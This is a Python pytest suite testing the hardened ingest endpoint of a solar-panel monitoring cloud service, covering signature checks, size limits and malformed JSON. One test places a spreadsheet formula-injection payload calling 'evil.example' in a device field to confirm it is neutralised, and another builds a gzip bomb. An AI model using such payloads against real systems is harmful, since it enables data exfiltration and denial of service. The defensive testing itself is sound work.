"""The ingest function at the door, through functions-framework's real app: who gets in, and what is written."""

from __future__ import annotations

import gzip
import hashlib
import json
import logging
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from functions_framework import create_app

from pvs6_cloud.runtime import Runtime, set_runtime
from tests.support.cloud import SECRET, envelope, local_config, signed, snapshot_item

MAIN = Path(__file__).resolve().parents[1] / "cloud" / "main.py"
T0 = datetime(2025, 9, 12, 17, 0, tzinfo=UTC)


@pytest.fixture
def client(tmp_path):
    config = local_config(tmp_path)
    set_runtime(Runtime(config))
    app = create_app(target="ingest", source=str(MAIN), signature_type="http")
    yield app.test_client(), tmp_path
    set_runtime(None)


def _post(client, body: bytes, headers: dict[str, str]):
    return client.post("/", data=body, headers=headers)


def _readings(tmp: Path) -> list[str]:
    path = tmp / "sheet" / "Readings.csv"
    return path.read_text().splitlines()[1:] if path.exists() else []


def test_signed_batch_is_stored_and_acknowledged(client, seed_payload):
    http, tmp = client
    item = snapshot_item(seed_payload, T0)
    body, headers = signed(envelope([item]))
    reply = _post(http, body, headers)
    assert reply.status_code == 200, reply.get_data(as_text=True)
    assert reply.get_json() == {"accepted": [item["sha256"]], "duplicates": []}
    assert len(_readings(tmp)) == 1


def test_same_snapshot_twice_makes_one_row(client, seed_payload):
    http, tmp = client
    item = snapshot_item(seed_payload, T0)
    for _ in range(2):
        body, headers = signed(envelope([item, item]))
        reply = _post(http, body, headers)
        assert reply.status_code == 200
    assert reply.get_json() == {"accepted": [], "duplicates": [item["sha256"], item["sha256"]]}
    assert len(_readings(tmp)) == 1


@pytest.mark.parametrize(
    ("mutate", "status", "says"),
    [
        (lambda b, h: (b, {**h, "X-Sentinel-Signature": "sha256=" + "0" * 64}), 401, "bad signature"),
        (lambda b, h: (b, {**h, "X-Sentinel-Site": "stranger"}), 401, "unknown"),
        (lambda b, h: (b, {k: v for k, v in h.items() if k != "X-Sentinel-Timestamp"}), 401, "Timestamp"),
        (lambda b, h: (b, {**h, "X-Sentinel-Timestamp": "9" * 400}), 401, "window"),
    ],
    ids=["forged", "unknown-site", "no-timestamp", "absurd-timestamp"],
)
def test_refused_requests_write_nothing(client, seed_payload, mutate, status, says):
    http, tmp = client
    body, headers = mutate(*signed(envelope([snapshot_item(seed_payload, T0)])))
    reply = _post(http, body, headers)
    assert reply.status_code == status
    assert says in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_stale_timestamp_is_refused(client, seed_payload):
    http, tmp = client
    body, headers = signed(envelope([snapshot_item(seed_payload, T0)]), timestamp=int(time.time()) - 301)
    reply = _post(http, body, headers)
    assert reply.status_code == 401
    assert "window" in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_oversize_body_gets_413(client):
    http, tmp = client
    raw = bytes(range(256)) * (4200)  # > 1 MiB of incompressible-looking bytes
    body, headers = signed(None, raw=raw)
    reply = _post(http, body, headers)
    assert reply.status_code == 413
    assert _readings(tmp) == []


def test_gzip_bomb_gets_413_without_inflating_it_whole(client):
    http, _tmp = client
    bomb = gzip.compress(b"[" + b" " * (64 << 20) + b"]", compresslevel=9)
    assert len(bomb) < (1 << 20)
    body, headers = signed(None, raw=bomb)
    reply = _post(http, body, headers)
    assert reply.status_code == 413
    assert "16 MiB" in reply.get_json()["error"]


@pytest.mark.parametrize(
    ("body_obj", "says"),
    [
        ({"schema": 2, "site": "home", "snapshots": []}, "schema"),
        ({"schema": 1, "site": "home", "snapshots": [{"source": "dl_cgi"}]}, "snapshots[0]"),
        ({"schema": 1, "site": "home", "snapshots": "nope"}, "list"),
        ({"schema": 1, "site": "other", "snapshots": []}, "site"),
        ({"schema": 1, "site": "home", "snapshots": [{"source": "dl_cgi", "sha256": "0" * 64, "payload": {},
                                                       "captured_at": "0001-01-01T00:00:00+01:00"}]}, "captured_at"),
    ],
    ids=["schema", "item-fields", "not-a-list", "site-mismatch", "time-out-of-range"],
)
def test_contract_breaks_get_400_with_a_reason(client, body_obj, says):
    http, tmp = client
    body, headers = signed(body_obj)
    reply = _post(http, body, headers)
    assert reply.status_code == 400
    assert says in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_malformed_json_gets_400(client):
    http, _tmp = client
    body, headers = signed(None, raw=gzip.compress(b"{not json"))
    reply = _post(http, body, headers)
    assert reply.status_code == 400
    assert "JSON" in reply.get_json()["error"]


def test_json_nested_too_deep_gets_400(client):
    http, tmp = client
    body, headers = signed(None, raw=gzip.compress(b"[" * 200_000))
    reply = _post(http, body, headers)
    assert reply.status_code == 400
    assert "JSON" in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_not_a_pvs_payload_is_refused_and_nothing_written(client, seed_payload):
    http, tmp = client
    good = snapshot_item(seed_payload, T0)
    bad = snapshot_item({"hello": "world"}, T0 + timedelta(minutes=15))
    body, headers = signed(envelope([good, bad]))
    reply = _post(http, body, headers)
    assert reply.status_code == 400
    assert bad["sha256"][:12] in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_get_is_not_allowed(client):
    http, _ = client
    assert http.get("/").status_code == 405


def test_device_strings_stay_text(client, seed_payload):
    http, tmp = client
    payload = json.loads(json.dumps(seed_payload))
    payload["devices"][3]["MODEL"] = '=IMPORTXML("http://evil.example","//a")'
    body, headers = signed(envelope([snapshot_item(payload, T0)]))
    assert _post(http, body, headers).status_code == 200
    devices = (tmp / "sheet" / "Devices.csv").read_text()
    assert "'=IMPORTXML" in devices
    assert ',=IMPORTXML' not in devices


def test_secret_and_signature_never_logged(client, seed_payload, caplog):
    http, _ = client
    caplog.set_level(logging.DEBUG)
    body, headers = signed(envelope([snapshot_item(seed_payload, T0)]))
    _post(http, body, {**headers, "X-Sentinel-Signature": "sha256=" + "f" * 64})
    _post(http, body, headers)
    text = caplog.text
    assert SECRET not in text
    assert headers["X-Sentinel-Signature"].split("=", 1)[1] not in text


def test_a_reading_from_the_future_is_refused_as_misdated(client, seed_payload):
    http, tmp = client
    future = datetime.now(UTC) + timedelta(days=400)  # taken while the Pi's clock ran 400 days ahead
    body, headers = signed(envelope([snapshot_item(seed_payload, future)]))
    reply = _post(http, body, headers)
    assert reply.status_code == 400
    assert "clock" in reply.get_json()["error"]
    assert _readings(tmp) == []
    body, headers = signed(envelope([snapshot_item(seed_payload, datetime.now(UTC) + timedelta(minutes=2))]))
    assert _post(http, body, headers).status_code == 200  # a Pi a little ahead is fine


@pytest.mark.parametrize("stamp", ["2009-12-31T23:59:59+00:00", "0001-01-01T00:00:00+00:00"], ids=["2009", "year-1"])
def test_a_reading_from_before_the_pvs6_existed_is_refused_naming_captured_at(client, seed_payload, stamp):
    http, tmp = client
    item = {**snapshot_item(seed_payload, T0), "captured_at": stamp}
    reply = _post(http, *signed(envelope([item])))
    assert reply.status_code == 400
    assert "captured_at" in reply.get_json()["error"]
    assert _readings(tmp) == []


@pytest.mark.parametrize("schema", [True, 1.0, "1"], ids=["true", "float", "text"])
def test_schema_must_be_the_integer_1(client, seed_payload, schema):
    http, tmp = client
    body_obj = {**envelope([snapshot_item(seed_payload, T0)]), "schema": schema}
    reply = _post(http, *signed(body_obj))
    assert reply.status_code == 400
    assert "schema" in reply.get_json()["error"]
    assert _readings(tmp) == []


def _edge_style_body(items: list[tuple[str, bytes, str]], *, site: str = "home") -> bytes:
    """A body spliced together the way the edge does it: each payload's raw bytes go in unchanged."""
    parts = [b'{"captured_at":"%s","source":"dl_cgi","sha256":"%s","payload":' % (stamp.encode(), digest.encode())
             + raw + b"}" for stamp, raw, digest in items]
    return b'{"schema":1,"site":"%s","edge":{"version":"t","status":{}},"snapshots":[' % site.encode() + \
        b",".join(parts) + b"]}"


def test_raw_payload_bytes_hash_as_the_edge_computes_them(client, seed_payload):
    """The PVS6's answer ends in a newline and keeps its own spacing; the hash covers exactly those bytes."""
    http, tmp = client
    raw = json.dumps(seed_payload, indent=1).encode() + b"\n"
    text = _edge_style_body([(T0.isoformat(), raw, hashlib.sha256(raw).hexdigest())])
    reply = _post(http, *signed(None, raw=gzip.compress(text)))
    assert reply.status_code == 200, reply.get_json()
    assert reply.get_json()["accepted"] == [hashlib.sha256(raw).hexdigest()]
    assert len(_readings(tmp)) == 1


def test_a_wrong_sha256_is_refused_and_never_passes_for_a_stored_reading(client, seed_payload):
    """Claiming the id of a reading already stored must not get a new reading acknowledged as its duplicate."""
    http, tmp = client
    stored = snapshot_item(seed_payload, T0)
    assert _post(http, *signed(envelope([stored]))).status_code == 200
    other = json.loads(json.dumps(seed_payload))
    other["devices"][3]["p_3phsum_kw"] = "0.1"
    forged = {**snapshot_item(other, T0 + timedelta(minutes=5)), "sha256": stored["sha256"]}
    reply = _post(http, *signed(envelope([forged])))
    assert reply.status_code == 400
    assert "snapshots[0]" in reply.get_json()["error"] and "sha256" in reply.get_json()["error"]
    assert len(_readings(tmp)) == 1


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('{"schema":1,"schema":1,"site":"home","snapshots":[]}', "duplicate key 'schema'"),
        ('{"schema":1,"site":"home","edge":{"version":"a","version":"b"},"snapshots":[]}', "duplicate key 'version'"),
        ('{"schema":1,"site":"home","snapshots":[{"source":"dl_cgi","source":"varserver"}]}', "duplicate key 'source'"),
        ('{"schema":1,"site":"home","snapshots":[]} []', "extra data"),
    ],
    ids=["top", "edge", "snapshot", "trailing-json"],
)
def test_duplicate_keys_in_the_envelope_are_refused(client, text, says):
    http, tmp = client
    reply = _post(http, *signed(None, raw=gzip.compress(text.encode())))
    assert reply.status_code == 400
    assert says in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_a_duplicate_payload_key_cannot_swap_the_hashed_bytes(client, seed_payload):
    http, tmp = client
    good = json.dumps(seed_payload).encode()
    digest = hashlib.sha256(good).hexdigest()
    text = _edge_style_body([(T0.isoformat(), good + b',"payload":{"devices":[]}', digest)])
    reply = _post(http, *signed(None, raw=gzip.compress(text)))
    assert reply.status_code == 400
    assert "duplicate key 'payload'" in reply.get_json()["error"]
    assert _readings(tmp) == []


@pytest.mark.parametrize(
    ("tail", "says"),
    [(b"junk", "trailing bytes"), (gzip.compress(b'{"schema":1}'), "second gzip member")],
    ids=["trailing", "second-member"],
)
def test_bytes_after_the_gzip_stream_are_refused(client, seed_payload, tail, says):
    http, tmp = client
    body = gzip.compress(json.dumps(envelope([snapshot_item(seed_payload, T0)])).encode()) + tail
    reply = _post(http, *signed(None, raw=body))
    assert reply.status_code == 400
    assert says in reply.get_json()["error"]
    assert _readings(tmp) == []


def test_an_ingest_started_without_upload_secrets_refuses_even_an_empty_key_signature(tmp_path, seed_payload):
    """PVS6_NO_UPLOAD_SECRETS is for the scheduled functions; on ingest it must never mean "sign with nothing"."""
    from pvs6_cloud.infra.config import NO_UPLOAD_SECRETS_ENV, parse_config

    config = parse_config({"sites": {"home": {"secret_env": "PVS6_SECRET_HOME", "latitude": 41.76,
                                              "longitude": -72.68, "timezone": "America/New_York",
                                              "local_dir": str(tmp_path / "sheet")}},
                           "mail": {"outbox_dir": str(tmp_path / "outbox")}, "weather": {"enabled": False}},
                          env={NO_UPLOAD_SECRETS_ENV: "1"}, base_dir=tmp_path)
    set_runtime(Runtime(config))
    try:
        http = create_app(target="ingest", source=str(MAIN), signature_type="http").test_client()
        body, headers = signed(envelope([snapshot_item(seed_payload, T0)]), secret="")
        reply = _post(http, body, headers)
    finally:
        set_runtime(None)
    assert reply.status_code == 500  # the Pi keeps the reading and retries once ingest has its secret
    assert _readings(tmp_path) == []
